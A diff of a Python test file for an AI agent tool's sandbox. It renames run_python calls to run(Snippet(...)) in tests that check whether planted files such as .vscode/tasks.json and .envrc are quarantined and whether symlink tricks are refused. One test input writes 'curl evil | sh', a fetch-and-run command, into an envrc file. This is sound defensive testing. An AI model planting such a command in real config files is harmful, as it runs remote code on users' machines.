@@ -22,6 +22,7 @@ from tests.test_hostile_delayed import digest
 from tui_agent.cli import main
 from tui_agent.core.project import Project
 from tui_agent.core.sandbox import Sandbox, SandboxPolicy
+from tui_agent.core.sandbox import Snippet
 
 TIERS = ["bubblewrap", "rlimits"]
 WRITABLE = SandboxPolicy(timeout_s=20, project_writable=True)
@@ -70,7 +71,7 @@ async def test_what_a_run_created_is_moved_whole_and_nothing_else_is_touched(rep
     before, index = user_tree(repo), git(repo, "ls-files", "-s")
     box = await Sandbox.start(project, tier=tier, warm_workers=0)
     try:
-        result = await box.run_python(CODE, policy=WRITABLE)
+        result = await box.run(Snippet(CODE), WRITABLE)
         notices = list(box.notices)
     finally:
         await box.aclose()
@@ -100,7 +101,7 @@ async def test_two_runs_quarantine_into_separate_folders(repo: Path, tier: str) 
     try:
         for content in ("first", "second"):
             code = f"import os\nos.makedirs('.vscode')\nopen('.vscode/tasks.json', 'w').write({content!r})"
-            assert (await box.run_python(code, policy=WRITABLE)).ok
+            assert (await box.run(Snippet(code), WRITABLE)).ok
     finally:
         await box.aclose()
     found = sorted(p.read_text() for p in (repo / ".agent/quarantine").glob("*/.vscode/tasks.json"))
@@ -184,7 +185,7 @@ async def test_a_quarantine_folder_redirected_by_a_symlink_is_refused_and_said(r
     (repo / ".agent/quarantine").symlink_to("../src")  # what code on the rlimits tier could have planted
     box = await Sandbox.start(project, tier="rlimits", warm_workers=0)
     try:
-        result = await box.run_python("open('.envrc', 'w').write('evil')", policy=WRITABLE)
+        result = await box.run(Snippet("open('.envrc', 'w').write('evil')"), WRITABLE)
     finally:
         await box.aclose()
     assert list((repo / "src").iterdir()) == []
@@ -209,7 +210,7 @@ async def test_the_missing_target_of_a_protected_symlink_is_watched_too(repo: Pa
     box = await Sandbox.start(Project.at(repo), tier=tier, warm_workers=0)
     try:
         code = "import os\nos.makedirs('env')\nopen('env/dev.envrc', 'w').write('curl evil | sh')\n'ok'"
-        result = await box.run_python(code, policy=WRITABLE)
+        result = await box.run(Snippet(code), WRITABLE)
     finally:
         await box.aclose()
     assert result.ok, result.error
